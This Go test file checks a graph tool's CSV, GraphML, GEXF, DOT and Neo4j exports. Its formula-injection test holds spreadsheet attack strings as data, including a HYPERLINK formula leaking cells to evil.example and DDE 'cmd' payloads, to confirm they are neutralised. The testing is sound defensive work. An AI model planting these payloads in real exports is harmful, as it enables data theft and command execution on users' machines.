package export

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/actorgraph/actorgraph/graph"
)

var (
	russia = graph.Node{ID: "russia", Name: "Russia", Kind: graph.KindState}
	serbia = graph.Node{ID: "serbia", Name: "Serbia", Kind: graph.KindState}
)

// twice is one relation read twice, with confidences 0.9 and 0.4.
func twice() []graph.Relation {
	rel := func(stmt, sentence string, c float64) graph.Relation {
		return graph.Relation{Statement: stmt, Subject: russia, Predicate: graph.Supports, Object: serbia,
			Evidence: graph.Cited{Evidence: graph.Evidence{Document: "d", Sentence: sentence, Modality: graph.Asserted, Confidence: c}, Date: "2022-01-01"}}
	}
	return []graph.Relation{rel("s1", "Russia backs Serbia.", 0.9), rel("s2", "Reportedly, Russia backs Serbia.", 0.4)}
}

// TestCSVConfidence: the edge list has a confidence column, last, with each piece of
// evidence's confidence.
func TestCSVConfidence(t *testing.T) {
	var b bytes.Buffer
	if err := CSV(&b, Slice(twice())); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("%d rows, want a header and 2", len(rows))
	}
	if !slices.Equal(rows[0], CSVHeader) || rows[0][len(rows[0])-1] != "confidence" {
		t.Fatalf("header %v, want %v ending with confidence", rows[0], CSVHeader)
	}
	col := len(CSVHeader) - 1
	for i, want := range []string{"0.9", "0.4"} {
		if got := rows[i+1][col]; got != want {
			t.Errorf("row %d: confidence %q, want %q", i+1, got, want)
		}
	}
}

// TestEdgeConfidence: an edge aggregated from several pieces of evidence carries the
// highest confidence, in every graph format.
func TestEdgeConfidence(t *testing.T) {
	edges := graph.GroupEdges(twice())
	tests := []struct {
		format string
		write  func(io.Writer, Stream[graph.Edge]) error
		check  func(t *testing.T, out []byte)
	}{
		{"graphml", GraphML, func(t *testing.T, out []byte) {
			type key struct {
				ID   string `xml:"id,attr"`
				For  string `xml:"for,attr"`
				Type string `xml:"attr.type,attr"`
			}
			var doc struct {
				Keys  []key `xml:"key"`
				Edges []struct {
					Data []struct {
						Key   string `xml:"key,attr"`
						Value string `xml:",chardata"`
					} `xml:"data"`
				} `xml:"graph>edge"`
			}
			if err := xml.Unmarshal(out, &doc); err != nil {
				t.Fatal(err)
			}
			if !slices.Contains(doc.Keys, key{ID: "confidence", For: "edge", Type: "double"}) {
				t.Errorf("no confidence key for edges: %+v", doc.Keys)
			}
			if len(doc.Edges) != 1 {
				t.Fatalf("%d edges, want 1", len(doc.Edges))
			}
			found := false
			for _, d := range doc.Edges[0].Data {
				if d.Key == "confidence" {
					found = true
					if d.Value != "0.9" {
						t.Errorf("edge confidence %q, want 0.9", d.Value)
					}
				}
			}
			if !found {
				t.Error("the edge has no confidence")
			}
		}},
		{"gexf", GEXF, func(t *testing.T, out []byte) {
			type attr struct {
				ID   string `xml:"id,attr"`
				Type string `xml:"type,attr"`
			}
			var doc struct {
				Attributes []struct {
					Class string `xml:"class,attr"`
					Attr  []attr `xml:"attribute"`
				} `xml:"graph>attributes"`
				Edges []struct {
					Values []struct {
						For   string `xml:"for,attr"`
						Value string `xml:"value,attr"`
					} `xml:"attvalues>attvalue"`
				} `xml:"graph>edges>edge"`
			}
			if err := xml.Unmarshal(out, &doc); err != nil {
				t.Fatal(err)
			}
			declared := false
			for _, a := range doc.Attributes {
				declared = declared || a.Class == "edge" && slices.Contains(a.Attr, attr{"confidence", "double"})
			}
			if !declared {
				t.Errorf("GEXF declares no confidence attribute of edges:\n%s", out)
			}
			if len(doc.Edges) != 1 {
				t.Fatalf("%d edges, want 1", len(doc.Edges))
			}
			found := false
			for _, v := range doc.Edges[0].Values {
				found = found || v.For == "confidence" && v.Value == "0.9"
			}
			if !found {
				t.Errorf("the GEXF edge has no confidence 0.9:\n%s", out)
			}
		}},
		{"dot", DOT, func(t *testing.T, out []byte) {
			if !bytes.Contains(out, []byte("confidence=0.9]")) {
				t.Errorf("DOT edge lacks confidence=0.9:\n%s", out)
			}
		}},
		{"neo4j", Neo4j, func(t *testing.T, out []byte) {
			z, err := zip.NewReader(bytes.NewReader(out), int64(len(out)))
			if err != nil {
				t.Fatal(err)
			}
			f, err := z.Open("relationships.csv")
			if err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(f).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			i := slices.Index(rows[0], "confidence:double")
			if i < 0 || len(rows) != 2 || rows[1][i] != "0.9" {
				t.Errorf("relationships.csv: %v", rows)
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.format, func(t *testing.T) {
			var b strings.Builder
			if err := tt.write(&b, Slice(edges)); err != nil {
				t.Fatal(err)
			}
			tt.check(t, []byte(b.String()))
		})
	}
}

// TestCSVFormulaInjection: a sentence or a label that a spreadsheet would run as a
// formula (=HYPERLINK, =cmd|, +, -, @, tab, carriage return) is written with a single
// quote before it, in the edge list and in both files of the Neo4j export; other
// cells are written as they are.
func TestCSVFormulaInjection(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"hyperlink", `=HYPERLINK("https://evil.example/?leak="&A1,"click")`, `'=HYPERLINK("https://evil.example/?leak="&A1,"click")`},
		{"dde", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(1+1)", "'@SUM(1+1)"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"plain sentence", "Russia backs Serbia.", "Russia backs Serbia."},
		{"formula later in the cell", "Russia = Serbia's backer", "Russia = Serbia's backer"},
		{"empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			evil := graph.Node{ID: "evil", Name: tt.in, Kind: graph.KindGroup, Aliases: []string{tt.in}}
			rels := []graph.Relation{{Statement: "s1", Subject: evil, Predicate: graph.Supports, Object: serbia,
				Evidence: graph.Cited{Evidence: graph.Evidence{Document: "d", Sentence: tt.in, Modality: graph.Asserted, Confidence: 1}}}}
			var b bytes.Buffer
			if err := CSV(&b, Slice(rels)); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			row := map[string]string{}
			for i, h := range rows[0] {
				row[h] = rows[1][i]
			}
			if row["sentence"] != tt.want || row["subject_label"] != tt.want {
				t.Errorf("edge list: sentence %q, subject label %q; want %q", row["sentence"], row["subject_label"], tt.want)
			}

			b.Reset()
			if err := Neo4j(&b, Slice(graph.GroupEdges(rels))); err != nil {
				t.Fatal(err)
			}
			z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
			if err != nil {
				t.Fatal(err)
			}
			cells := map[string]string{}
			for _, f := range z.File {
				r, err := f.Open()
				if err != nil {
					t.Fatal(err)
				}
				rows, err := csv.NewReader(r).ReadAll()
				if cerr := r.Close(); err == nil {
					err = cerr
				}
				if err != nil {
					t.Fatalf("%s: %v", f.Name, err)
				}
				for _, row := range rows[1:] {
					for i, h := range rows[0] {
						if h == "name" && row[0] == graph.NodeIRI(evil) || h == "sentence" {
							cells[f.Name+" "+h] = row[i]
						}
					}
				}
			}
			for _, k := range []string{"nodes.csv name", "relationships.csv sentence"} {
				if cells[k] != tt.want {
					t.Errorf("neo4j %s: %q, want %q", k, cells[k], tt.want)
				}
			}
		})
	}
}
